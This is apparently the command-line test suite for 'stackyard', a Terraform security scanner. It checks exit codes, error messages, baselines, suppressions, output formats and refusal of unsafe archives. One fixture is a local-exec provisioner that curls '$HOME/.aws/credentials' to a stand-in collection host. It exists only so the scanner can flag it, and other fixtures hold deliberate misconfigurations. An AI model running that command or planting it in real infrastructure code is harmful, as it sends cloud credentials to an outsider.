import { execFile } from "node:child_process";
import { mkdtempSync, readFileSync, rmSync, symlinkSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { tarGz, zip } from "@stackyard/archive/test/archives";
import { writeFiles } from "@stackyard/scanner/test/write-files";
import { afterAll, beforeAll, describe, expect, it, vi } from "vitest";

const BIN = join(import.meta.dirname, "stackyard.js");

// Processes start slowly when many tests run in parallel.
vi.setConfig({ testTimeout: 30_000 });

const BAD = 'resource "aws_ebs_volume" "x" {\n  encrypted = false\n}\n';

const PLAN = JSON.stringify({
  format_version: "1.2",
  planned_values: {
    root_module: {
      resources: [
        {
          address: "module.data.aws_ebs_volume.x",
          mode: "managed",
          type: "aws_ebs_volume",
          name: "x",
          values: { encrypted: false },
        },
      ],
    },
  },
});

const RUNS = `resource "terraform_data" "x" {
  provisioner "local-exec" {
    command = "curl -d @$HOME/.aws/credentials https://collect.example.net"
  }
}
`;

let folder: string;
beforeAll(() => {
  folder = mkdtempSync(join(tmpdir(), "stackyard-cli-"));
  writeFiles(folder, {
    "bad/main.tf": BAD,
    "broken/main.tf": "resource {\n",
    "choice/main.tf": `variable "encrypted" {
  type = bool
}

resource "aws_ebs_volume" "x" {
  encrypted = var.encrypted
}
`,
    "switch/main.tf": `variable "public" {
  type    = bool
  default = false
}

resource "aws_db_instance" "x" {
  count               = var.public ? 1 : 0
  publicly_accessible = true
}

resource "aws_sqs_queue" "x" {
  sqs_managed_sse_enabled = true
}
`,
    "passed/main.tf": `# stackyard:ignore *\n${BAD}`,
    "choice.tfvars": 'encrypted = false\nother = "not of this module"\n',
    "choice.tfvars.json": '{ "encrypted": true }',
    "odd.tfvars": "encrypted = var.x\n",
    "text.txt": "no archive",
    "large.json": " ".repeat(8_000_001),
    "plan.json": PLAN,
    "cut.json": PLAN.slice(0, -1),
    "runs/main.tf": RUNS,
    "invalid/main.tf": "locals {\n  x = var.missing\n}\n",
    "old/main.tf": 'variable "a" {}\n',
    "new/main.tf": 'variable "b" {}\n',
  });
});
afterAll(() => rmSync(folder, { recursive: true }));

interface Outcome {
  readonly code: number;
  readonly stdout: string;
  readonly stderr: string;
}

/** Runs the program as a shell would, in the directory of the test modules. */
function stackyard(...args: string[]): Promise<Outcome> {
  return new Promise((resolve) => {
    const child = execFile(process.execPath, [BIN, ...args], { cwd: folder }, (_, stdout, stderr) =>
      resolve({ code: child.exitCode ?? -1, stdout, stderr }),
    );
  });
}

/** IDs of the encryption findings, which identify a report in the tests. */
async function encryptionFindings(...args: string[]): Promise<string[]> {
  const { stdout } = await stackyard("scan", "--format", "json", ...args);
  const ids: string[] = JSON.parse(stdout).findings.map(({ ruleId }: { ruleId: string }) => ruleId);
  return ids.filter((id) => id === "aws-ebs-encryption");
}

describe("stackyard", () => {
  it.each([["--help"], ["-h"], [], ["scan", "--help"], ["scan", "-h"]])(
    "%s %s helps",
    async (...args) => {
      const { code, stdout } = await stackyard(...args);
      expect(code).toBe(0);
      expect(stdout).toContain("stackyard scan DIR|ARCHIVE");
      expect(stdout.split("\n").filter((line) => line.length > 80)).toEqual([]);
    },
  );

  it("tells its version and that of its rules", async () => {
    const { stdout } = await stackyard("--version");
    expect(stdout).toMatch(/^stackyard \d+\.\d+\.\d+, ruleset \d+\.\d+\.\d+\n$/);
  });

  it.each([
    [["frobnicate"], 'there is no command "frobnicate"'],
    [["scan"], "takes one directory or archive"],
    [["scan", "bad", "old"], "takes one directory or archive"],
    [["scan", "missing"], "cannot read missing: there is no such file or directory"],
    [["scan", "text.txt"], "Only .zip and .tar.gz archives can be read"],
    [["scan", "bad", "--format", "xml"], "--format is one of text, json, sarif, markdown"],
    [["scan", "bad", "--frobnicate"], "unknown option"],
    [["scan", "bad", "--fail-on", "awful"], "--fail-on is one of"],
    [["scan", "bad", "--severity", "awful"], "--severity is one of critical, high"],
    [["scan", "bad", "--rule", "aws-ebs-encrypton"], "perhaps aws-ebs-encryption is meant"],
    [["scan", "bad", "--skip", "CKV_AWS_3"], "perhaps aws-ebs-encryption is meant"],
    [["scan", "bad", "--baseline", "missing.json"], "cannot read missing.json"],
    [["scan", "bad", "--min-score", "beauty=80"], "--min-score is one of"],
    [["scan", "bad", "--min-score", "security=much"], "N from 0 to 100"],
    [["scan", "bad", "--output", "no/such/folder"], "cannot write no/such/folder"],
    [["scan", "choice", "--var", "encrypted"], "--var is NAME=VALUE"],
    [["scan", "choice", "--var", "encrypted=maybe"], "does not take these values: encrypted"],
    [["scan", "choice", "--var", "size=1"], "does not take these values: size"],
    [["scan", "choice", "--var-file", "odd.tfvars"], "odd.tfvars:1: encrypted is"],
    [["scan", "choice", "--var-file", "text.txt"], "not a .tfvars or .tfvars.json file"],
    [["scan", "choice.tfvars.json"], "choice.tfvars.json is not a plan in JSON"],
    [["scan", "cut.json"], "cannot read cut.json: it is not valid JSON"],
    [["scan", "large.json"], "larger than 8000000 bytes"],
    [["diff", "old"], "takes two directories or archives"],
  ])("%j is wrong, in one line", async (args, message) => {
    const { code, stdout, stderr } = await stackyard(...args);
    expect(code).toBe(2);
    expect(stdout).toBe("");
    expect(stderr).toMatch(/^stackyard: [^\n]*\n$/);
    expect(stderr).toContain(message);
  });
});

describe("stackyard scan", () => {
  it("judges a plan, and names the addresses", async () => {
    const { code, stdout } = await stackyard("scan", "plan.json");
    expect(code).toBe(1);
    expect(stdout).toMatch(
      /aws-ebs-encryption at plan\.json:1 in\s+module\.data\.aws_ebs_volume\.x/,
    );
  });

  const WORST = ["--inputs", "worst"];
  it.each<[module: string, options: string[], code: number]>([
    ["bad", [], 1],
    ["bad", ["--fail-on", "critical"], 0],
    ["bad", ["--fail-on", "none"], 0],
    ["bad", ["--fail-on", "none", "--min-score", "security=100"], 1],
    ["bad", ["--severity", "critical"], 0],
    ["bad", ["--skip", "aws-ebs-encryption"], 0],
    ["runs", ["--fail-on", "critical"], 1],
    ["runs", ["--fail-on", "none"], 0],
    ["broken", ["--fail-on", "none"], 1],
    ["broken", ["--fail-on", "none", "--severity", "critical"], 1],
    ["invalid", ["--fail-on", "none"], 1],
    ["invalid", ["--fail-on", "none", "--rule", "aws-ebs-encryption"], 1],
    ["switch", ["--fail-on", "critical"], 0],
    ["switch", ["--fail-on", "critical", ...WORST], 1],
    ["switch", ["--fail-on", "none", ...WORST], 0],
    ["switch", ["--fail-on", "none", "--min-score", "security=40", ...WORST], 1],
    ["switch", ["--fail-on", "critical", "--skip", "aws-rds-public", ...WORST], 0],
    [
      "switch",
      ["--fail-on", "none", "--min-score", "security=40", "--skip", "aws-rds-public", ...WORST],
      1,
    ],
  ])("of %s with %j answers %i", async (module, options, code) => {
    const outcome = await stackyard("scan", module, ...options);
    expect(outcome.code, outcome.stderr).toBe(code);
  });

  it("answers 1 for findings at or above the limit, and 0 for those below", async () => {
    const found = await stackyard("scan", "bad");
    expect(found.code).toBe(1);
    expect(found.stdout).toContain("aws-ebs-encryption at main.tf:2");
    expect(found.stderr).toMatch(/^stackyard: \d+ findings? at or above high\n$/);
    expect((await stackyard("scan", "bad", "--fail-on", "critical")).code).toBe(0);
    expect((await stackyard("scan", "bad", "--fail-on", "none")).code).toBe(0);
  });

  it("lets the findings of a baseline pass, and refuses a file that is none", async () => {
    expect((await stackyard("scan", "bad", "--write-baseline", "known.json")).code).toBe(1);
    const known = await stackyard("scan", "bad", "--baseline", "known.json");
    expect(known.code).toBe(0);
    expect(known.stdout).toMatch(/^0 findings, \d+ known$/m);
    const refused = await stackyard("scan", "bad", "--baseline", "choice.tfvars");
    expect(refused.code).toBe(1);
    expect(refused.stderr).toBe(
      "stackyard: choice.tfvars is not a usable baseline: it is not valid JSON\n",
    );
  });

  it("follows stackyard.yaml, and refuses a faulty one", async () => {
    const project = (reason: string) =>
      `suppressions:\n  - rule: aws-ebs-encryption\n    ${reason}: Public data\n`;
    writeFiles(folder, {
      "project/main.tf": BAD,
      "project/stackyard.yaml": project("reason"),
      "faulty/main.tf": BAD,
      "faulty/stackyard.yaml": project("raeson"),
    });
    const own = await stackyard("scan", "project");
    expect(own.code).toBe(0);
    expect(own.stdout).toContain("aws-ebs-encryption at main.tf:2: Public data");
    expect((await stackyard("scan", "project", "--marketplace")).code).toBe(1);
    const faulty = await stackyard("scan", "faulty");
    expect(faulty.code).toBe(1);
    expect(faulty.stderr).toContain('stackyard.yaml:3: unknown key "raeson"');
  });

  it("tries a project's own rules on their examples", async () => {
    const rule = (good: string) => `rules:
  - id: acme-volume-type
    type: aws_ebs_volume
    path: type
    operator: equals
    value: gp3
    message: Volume is not gp3
    severity: LOW
    pass:
      - resource "aws_ebs_volume" "a" { type = "${good}" }
    fail:
      - resource "aws_ebs_volume" "a" {}
`;
    writeFiles(folder, {
      "rules/stackyard.yaml": rule("gp3"),
      "wrong/stackyard.yaml": rule("io1"),
    });
    const good = await stackyard("test-rules", "rules");
    expect(good).toMatchObject({ code: 0, stdout: "1 rule, 2 examples, 0 failed\n" });
    const wrong = await stackyard("test-rules", "wrong");
    expect(wrong.code).toBe(1);
    expect(wrong.stdout).toContain('acme-volume-type: example 1 under "pass" fails');
    expect((await stackyard("test-rules", "bad")).code).toBe(2);
  });

  it("counts findings and scores with the worst inputs on request", async () => {
    const args = ["scan", "switch", "--fail-on", "critical", "--min-score", "security=40"];
    expect((await stackyard(...args)).code).toBe(0);
    const worst = await stackyard(...args, "--inputs", "worst");
    expect(worst.code).toBe(1);
    expect(worst.stderr).toContain("1 finding at or above critical; security 39 is below 40");
    expect((await stackyard("scan", "switch", "--inputs", "all")).code).toBe(2);
  });

  it("follows suppressions, and judges them as the marketplace does on request", async () => {
    const own = await stackyard("scan", "passed");
    expect(own.code).toBe(0);
    expect(own.stdout).toMatch(/^\d+ findings: .*, \d+ suppressed$/m);
    const sold = await stackyard("scan", "passed", "--marketplace");
    expect(sold.code).toBe(1);
    expect(sold.stdout).toContain("gen-wildcard-suppression at main.tf:1");
  });

  it("answers 1 for code that Terraform would not load", async () => {
    for (const limit of ["critical", "none"]) {
      const { code, stderr } = await stackyard("scan", "broken", "--fail-on", limit);
      expect(code).toBe(1);
      expect(stderr).toContain("there is code that cannot be loaded");
    }
  });

  it("writes JUnit and annotations", async () => {
    const junit = await stackyard("scan", "bad", "--format", "junit");
    expect(junit.stdout).toMatch(/^<\?xml .*\n<testsuites /);
    const github = await stackyard("scan", "bad", "--format", "github");
    expect(github.stdout).toMatch(/^::error file=main\.tf,line=2,/m);
  });

  it("explains a rule, and says which one was meant", async () => {
    const { code, stdout } = await stackyard("explain", "aws-ebs-encryption");
    expect(code).toBe(0);
    expect(stdout).toMatch(/^aws-ebs-encryption: /);
    expect(stdout).toContain("Fix: ");
    const wrong = await stackyard("explain", "aws-ebs-encrypton");
    expect(wrong.code).toBe(2);
    expect(wrong.stderr).toContain("perhaps aws-ebs-encryption is meant");
    expect((await stackyard("explain")).code).toBe(2);
  });

  it("takes values as Terraform does, the last one counts", async () => {
    expect(await encryptionFindings("choice")).toEqual([]);
    expect(await encryptionFindings("choice", "--var", "encrypted=false")).toHaveLength(1);
    expect(await encryptionFindings("choice", "--var-file", "choice.tfvars")).toHaveLength(1);
    expect(
      await encryptionFindings(
        "choice",
        "--var-file=choice.tfvars",
        "--var-file=choice.tfvars.json",
      ),
    ).toEqual([]);
    expect(
      await encryptionFindings("choice", "--var-file=choice.tfvars", "--var=encrypted=true"),
    ).toEqual([]);
  });

  it("writes each format, to a file where one is named", async () => {
    const { stdout } = await stackyard("scan", "bad", "--format", "markdown");
    expect(stdout).toMatch(/^# Stackyard scan\n/);
    const written = await stackyard("scan", "bad", "--format", "sarif", "--output", "out.sarif");
    expect(written.stdout).toBe("");
    const log = JSON.parse(readFileSync(join(folder, "out.sarif"), "utf8"));
    expect(log.version).toBe("2.1.0");
  });

  it("writes no colours where nobody sees them", async () => {
    expect((await stackyard("scan", "bad")).stdout).not.toContain("\u001b");
  });

  describe("of a project that calls registry modules", () => {
    const CALL =
      'module "network" {\n  source  = "example.com/ada/network/aws"\n  version = "1.0.0"\n}\n';
    const OPEN = `resource "aws_security_group" "open" {
  ingress {
    from_port   = 22
    to_port     = 22
    protocol    = "tcp"
    cidr_blocks = ["0.0.0.0/0"]
  }
}
`;
    const modules = ["network", "network.subnets"].map((Key) => ({
      Key,
      Dir:
        Key === "network"
          ? ".terraform/modules/network"
          : ".terraform/modules/network/modules/subnets",
    }));

    it("fails without these modules, unless no findings are wanted", async () => {
      writeFiles(folder, { "calls/main.tf": CALL });
      const scanned = await stackyard("scan", "calls");
      expect(scanned.code).toBe(1);
      expect(scanned.stderr).toContain("module.network not judged: run `terraform init");
      expect((await stackyard("scan", "calls", "--fail-on", "none")).code).toBe(0);
    });

    it("judges what `terraform init` has downloaded, and what that calls", async () => {
      const installed = "installed/.terraform/modules";
      writeFiles(folder, {
        "installed/main.tf": CALL,
        [`${installed}/modules.json`]: JSON.stringify({ Modules: modules }),
        [`${installed}/network/main.tf`]: 'module "subnets" {\n  source = "./modules/subnets"\n}\n',
        [`${installed}/network/modules/subnets/main.tf`]: OPEN,
        [`${installed}/network/modules/unused/main.tf`]: OPEN,
        [`${installed}/network/examples/open/main.tf`]: OPEN,
        [`${installed}/network/.github/workflows/ci.yml`]: "on: push\npermissions: write-all\n",
        [`${installed}/stray/main.tf`]: OPEN,
      });
      const { stdout, stderr, code } = await stackyard("scan", "installed", "--format", "json");
      const { findings, notEvaluated, unread, failures } = JSON.parse(stdout);
      const files = new Set(findings.map(({ file }: { file: string }) => file));
      expect(code).toBe(1);
      expect(stderr).not.toContain("not judged");
      expect(files).toContain(".terraform/modules/network/modules/subnets/main.tf");
      expect(
        [...files].filter((file) => /unused|examples|stray|github/.test(String(file))),
      ).toEqual([]);
      const others = findings.filter(
        ({ file, kind }: { file: string; kind: string }) =>
          file.startsWith(".terraform/") && kind !== "security",
      );
      expect(others).toEqual([]);
      expect({ notEvaluated, unread, failures }).toEqual({
        notEvaluated: [],
        unread: [],
        failures: [],
      });
    });
  });

  it("leaves out what is not the author's, and follows no links out of it, which it says", async () => {
    writeFiles(folder, {
      "links/main.tf": "",
      "links/.terraform/modules/x/main.tf": 'resource "aws_ebs_volume" "x" {}\n',
      "links/node_modules/y/main.tf": 'resource "aws_ebs_volume" "y" {}\n',
    });
    symlinkSync("../bad/main.tf", join(folder, "links/bad.tf"));
    symlinkSync("..", join(folder, "links/round"));
    symlinkSync("none.tf", join(folder, "links/gone.tf"));
    const { stdout } = await stackyard("scan", "links", "--format", "json");
    const { facts, failures, notEvaluated, unread } = JSON.parse(stdout);
    expect(facts.resources).toEqual([]);
    expect(notEvaluated).toEqual(["left out: .terraform/, node_modules/"]);
    const reason = "it is a symbolic link";
    expect(unread).toEqual([
      { path: "bad.tf", reason },
      { path: "gone.tf", reason },
      { path: "round", reason },
    ]);
    expect(failures).toEqual([
      expect.stringContaining("bad.tf: Terraform would load it"),
      expect.stringContaining("gone.tf: Terraform would load it"),
    ]);
  });

  it("reads a link to a file of the folder as Terraform does, and a folder once", async () => {
    writeFiles(folder, {
      "shared/common/volume.tf": 'resource "aws_ebs_volume" "x" {}\n',
      "shared/one/main.tf": "",
    });
    symlinkSync("../common/volume.tf", join(folder, "shared/one/volume.tf"));
    symlinkSync(".", join(folder, "shared/round"));
    symlinkSync("common", join(folder, "shared/other"));
    const { stdout } = await stackyard("scan", "shared", "--format", "json");
    const { facts, unread } = JSON.parse(stdout);
    expect(facts.resources.map(({ file }: { file: string }) => file)).toEqual([
      "common/volume.tf",
      "one/volume.tf",
    ]);
    expect(unread).toEqual([]);
  });

  it("reads code before what no rule is about, so that a limit leaves out the latter", async () => {
    const others = Array.from({ length: 5_001 }, (_, n) => [`many/a/${n}.c`, ""]);
    writeFiles(folder, { ...Object.fromEntries(others), "many/z/main.tf": BAD });
    const { stdout } = await stackyard("scan", "many", "--format", "json");
    const { facts, failures, unread } = JSON.parse(stdout);
    expect({ resources: facts.resources.length, failures, unread }).toEqual({
      resources: 1,
      failures: [],
      unread: [],
    });
  });

  it("says the same of a folder and of its archive", async () => {
    const files = {
      "main.tf": BAD,
      "large.tf": `# ${Array.from({ length: 300_000 }, (_, n) => n * 7_919).join(" ")}\n`,
      "nul.yaml": "a: \0\n",
      "terraform.tfstate": "{}",
      "node_modules/x/package.json": "{}",
    };
    writeFiles(folder, {
      ...Object.fromEntries(Object.entries(files).map(([path, text]) => [`same/${path}`, text])),
      "same.zip": await zip(files),
      "same.tgz": await tarGz(files),
    });
    const reports = ["same", "same.zip", "same.tgz"].map(async (path) =>
      JSON.parse((await stackyard("scan", path, "--format", "json")).stdout),
    );
    const [report, ...others] = await Promise.all(reports);
    expect(others).toEqual([report, report]);
    expect(report.unread).toEqual([
      { path: "large.tf", reason: "it is larger than 2000000 bytes" },
      { path: "nul.yaml", reason: "it is not text: it has NUL bytes" },
    ]);
    expect(report.notEvaluated).toEqual([
      "would stop a submission: terraform.tfstate, which holds state",
      "left out: node_modules/",
    ]);
  });
});

describe("an archive", () => {
  it.each([
    ["module.zip", zip],
    ["module.tgz", tarGz],
    ["module.tar.gz", tarGz],
  ] as const)("%s is scanned as its one folder", async (name, pack) => {
    writeFiles(folder, { [name]: await pack({ "m-1.0/main.tf": BAD, "__MACOSX/._x": "" }) });
    const { stdout, code } = await stackyard("scan", name);
    expect(code).toBe(1);
    expect(stdout).toContain("aws-ebs-encryption at main.tf:2");
  });

  it.each([
    ["up.tgz", () => tarGz({ "../x.tf": "" }), "leads out of the archive"],
    ["root.tgz", () => tarGz({ "/x.tf": "" }), "is an absolute path"],
    [
      "link.tgz",
      () => tarGz({ a: "" }, { a: { type: "symlink", linkname: "/x" } }),
      "is a symlink",
    ],
    ["link.zip", () => zip({ a: "/x" }, { modes: { a: 0o120777 } }), "is a link or a device"],
    ["twice.zip", () => zip({ "a.tf": "", "A.tf": "" }), "are both named"],
    ["bomb.zip", () => zip({ a: new Uint8Array(4_000_000) }), "a hundred times its size"],
    ["empty.zip", () => zip({}), "there are no files"],
    ["cut.tgz", async () => (await tarGz({ a: "abc" })).subarray(0, 30), "is damaged"],
    ["other.zip", async () => Buffer.from("abc"), "is not a zip archive"],
  ])("%s is refused", async (name, pack, message) => {
    writeFiles(folder, { [name]: await pack() });
    const { code, stderr } = await stackyard("scan", name);
    expect(code).toBe(2);
    expect(stderr).toContain(message);
  });
});

describe("stackyard diff", () => {
  it("shows what changed, and the bump", async () => {
    const { code, stdout } = await stackyard("diff", "old", "new");
    expect(code).toBe(0);
    expect(stdout).toContain("var.a: the input was removed");
    expect(stdout).toMatch(/The required version bump is major\.\n$/);
  });

  it("writes JSON and Markdown", async () => {
    const { stdout } = await stackyard("diff", "old", "new", "--format", "json");
    expect(JSON.parse(stdout)).toMatchObject({ bump: "major" });
    const markdown = await stackyard("diff", "old", "new", "--format", "markdown");
    expect(markdown.stdout).toContain("| major | `var.a` |");
  });
});
